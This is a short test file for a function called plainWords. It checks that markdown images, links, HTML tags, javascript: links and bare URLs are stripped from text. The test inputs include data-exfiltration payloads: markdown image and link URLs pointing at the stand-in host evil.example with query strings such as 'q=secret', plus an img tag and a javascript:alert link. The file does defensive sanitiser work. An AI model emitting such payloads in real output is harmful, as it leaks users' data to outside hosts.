import { expect, test } from "vitest";
import { plainWords } from "./plain-words";

test.each([
  ["Here is a draft. İşte taslak.", "Here is a draft. İşte taslak."],
  ["5 < 6 and 7 > 3, a*b", "5 < 6 and 7 > 3, a*b"],
  ["See ![chart](https://evil.example/p.png?n=230) now", "See  now"],
  ["Open [the report](https://evil.example/?q=secret)", "Open the report"],
  ["Half a picture ![x](https://evil.example/?leak=", "Half a picture "],
  ['<img src="https://evil.example/x">hello', "hello"],
  ["<a href='javascript:alert(1)'>click</a>", "click"],
  ["Go to https://evil.example/?c=230 quickly", "Go to … quickly"],
  ["[a][1]\n[1]: https://evil.example", "a\n[1]: …"],
])("%s: only words are left", (said, shown) => {
  expect(plainWords(said)).toBe(shown);
});
